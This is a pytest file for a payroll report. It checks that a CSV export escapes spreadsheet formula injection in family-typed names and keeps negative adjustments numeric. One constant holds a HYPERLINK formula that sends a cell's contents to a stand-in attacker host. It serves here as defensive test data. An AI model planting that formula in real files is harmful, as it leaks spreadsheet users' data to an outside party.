"""The CSV report writes what families typed as text: a child named "=HYPERLINK(...)" is a cell starting with a
quote, never a formula a spreadsheet runs; amounts stay plain numbers, a negative adjustment too. Made to fail
first: without the escape the name was written as typed."""

import csv
import io

import pytest

from billing.payroll.report import pay_period_csv, text
from billing.payroll.selectors import pay_period_lines
from billing.payroll.services import pay_period_close
from scheduling.outcomes import Outcome
from scheduling.services import lesson_outcome_set
from tests.factories import StudentFactory
from tests.payroll.conftest import FIXED_30

pytestmark = [pytest.mark.django_db, pytest.mark.postgres]

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Pay")'


def test_a_formula_typed_as_a_name_is_text_and_a_negative_adjustment_a_number(payroll):
    student = StudentFactory(
        family=payroll.week.student.family, instrument=payroll.week.student.instrument, first_name=FORMULA,
        last_name="-Smith",
    )  # fmt: skip
    corrected = payroll.lesson_on(payroll.monday(2), student=student)
    pay_period_close(actor=None, period=payroll.period(payroll.monday(2)))
    lesson_outcome_set(lesson=corrected, outcome=Outcome.CANCELLED_WITH_NOTICE, actor=None)
    payroll.lesson_on(payroll.monday(1), student=student)
    period = payroll.period(payroll.monday(1))

    rows = list(csv.reader(io.StringIO(pay_period_csv(period=period, lines=pay_period_lines(period=period)))))

    lines = rows[1 : rows.index([])]
    assert {row[2] for row in lines} == {f"'{student}"}
    assert sorted((row[6], row[7], row[8]) for row in lines) == [
        ("", f"-{FIXED_30 // 100}.00", "Adjustment"),
        (f"{FIXED_30 // 100}.00", f"{FIXED_30 // 100}.00", "Regular"),
    ]
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    # The line's amount and the summary's adjustments: numbers, unescaped.
    assert [cell for cell in cells if cell.startswith("-")] == [f"-{FIXED_30 // 100}.00"] * 2


@pytest.mark.parametrize("typed", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_start_is_escaped_and_plain_text_is_not(typed):
    assert text(typed) == f"'{typed}"
    assert text("Ada Lovelace") == "Ada Lovelace"
